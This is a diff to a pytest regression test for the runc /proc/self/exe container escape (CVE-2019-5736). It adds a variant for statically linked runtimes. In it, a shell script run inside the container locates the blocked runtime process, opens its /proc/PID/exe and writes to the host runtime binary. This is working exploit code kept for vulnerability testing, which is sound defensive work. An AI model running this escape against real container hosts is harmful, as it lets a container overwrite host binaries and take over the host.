@@ -104,6 +104,78 @@ def plant_evil(ctx, bundle):
     os.chmod(bundle.rootfs_file("/evil"), 0o755)
 
 
+def has_elf_interpreter(path):
+    """Whether an x86-64 ELF asks for a program interpreter (PT_INTERP)."""
+    with open(path, "rb") as f:
+        hdr = f.read(64)
+        if hdr[:4] != b"\x7fELF" or hdr[4] != 2:
+            return True
+        phoff = int.from_bytes(hdr[32:40], "little")
+        phentsize = int.from_bytes(hdr[54:56], "little")
+        phnum = int.from_bytes(hdr[56:58], "little")
+        f.seek(phoff)
+        table = f.read(phentsize * phnum)
+    return any(int.from_bytes(table[i * phentsize:i * phentsize + 4], "little") == 3
+               for i in range(phnum))
+
+
+# A static runtime has no ELF interpreter to plant. The runtime re-executed
+# through #!/proc/self/exe is made to block instead (its --log is a FIFO
+# nobody reads yet); a second process in the container opens /proc/PID/exe of
+# it, lets it finish, then writes to the binary through that fd.
+STATIC_ATTACK = r"""
+p=; i=0
+while [ -z "$p" ] && [ $i -lt 400 ]; do
+  for d in /proc/[0-9]*; do
+    if grep -q -- "--log=/fifo_$1" $d/cmdline 2>/dev/null; then p=${d#/proc/}; fi
+  done
+  i=$((i+1)); sleep 0.05
+done
+[ -n "$p" ] || { echo NOTFOUND; exit 0; }
+exec 3</proc/$p/exe || { echo NOOPEN; exit 0; }
+cat /fifo_$1 >/dev/null
+for i in $(seq 100); do if echo pwned >> /proc/self/fd/3; then echo WROTE; exit 0; fi 2>/dev/null; sleep 0.05; done
+echo NOWRITE
+"""
+
+
+def plant_blocking_evil(bundle):
+    os.mkfifo(bundle.rootfs_file("/fifo_" + bundle.marker))
+    with open(bundle.rootfs_file("/evil"), "w") as f:
+        f.write("#!/proc/self/exe --log=/fifo_%s\n" % bundle.marker)
+    os.chmod(bundle.rootfs_file("/evil"), 0o755)
+
+
+def wait_output(path, timeout=20):
+    deadline, out = time.time() + timeout, ""
+    while time.time() < deadline and not any(w in out for w in ("WROTE", "NOWRITE", "NOTFOUND",
+                                                                 "NOOPEN")):
+        time.sleep(0.1)
+        with open(path) as f:
+            out = f.read()
+    return out
+
+
+def attack_static_runtime(ctx, rt, bundle, cid, via):
+    plant_blocking_evil(bundle)
+    outp = os.path.join(ctx.dir, "attack.out")
+    if via == "run":
+        # no pid namespace: the attacker must outlive the init it attacks
+        bundle.config["linux"]["namespaces"] = [
+            n for n in bundle.config["linux"]["namespaces"] if n["type"] != "pid"]
+        bundle.process["args"] = ["/evil", bundle.marker]
+        assert rt.create(bundle, cid).rc == 0
+        assert rt.start(cid).rc == 0
+    else:
+        bundle.sleep_forever()
+        assert rt.create(bundle, cid).rc == 0
+        assert rt.start(cid).rc == 0
+        assert rt("exec", "-d", cid, "/evil", bundle.marker).rc == 0
+    assert rt("exec", "-d", cid, "sh", "-c", STATIC_ATTACK, "attack", bundle.marker,
+              out_path=outp, err_path=outp).rc == 0
+    return wait_output(outp)
+
+
 @pytest.mark.skipif(shutil.which("gcc") is None or os.uname().machine != "x86_64", reason="needs gcc on x86_64")
 @pytest.mark.parametrize("via", ["run", "exec"])
 def test_cve_2019_5736_proc_self_exe(ctx, runtime, bundle, cid, via):
@@ -112,9 +184,11 @@ def test_cve_2019_5736_proc_self_exe(ctx, runtime, bundle, cid, via):
     shutil.copy2(runtime, exe)
     before = sha256(exe)
     rt = Runtime(exe, ctx.rt.root, ctx.rt.workdir)
-    plant_evil(ctx, bundle)
     out = ""
-    if via == "run":
+    if not has_elf_interpreter(exe):
+        out = attack_static_runtime(ctx, rt, bundle, cid, via)
+    elif via == "run":
+        plant_evil(ctx, bundle)
         bundle.process["args"] = ["/evil", bundle.marker]
         r = rt.create(bundle, cid)
         if r.rc == 0:
@@ -122,6 +196,7 @@ def test_cve_2019_5736_proc_self_exe(ctx, runtime, bundle, cid, via):
             rt.wait_status(cid, "stopped", timeout=15)
         out = bundle.stdout(cid)
     else:
+        plant_evil(ctx, bundle)
         bundle.sleep_forever()
         assert rt.create(bundle, cid).rc == 0
         assert rt.start(cid).rc == 0
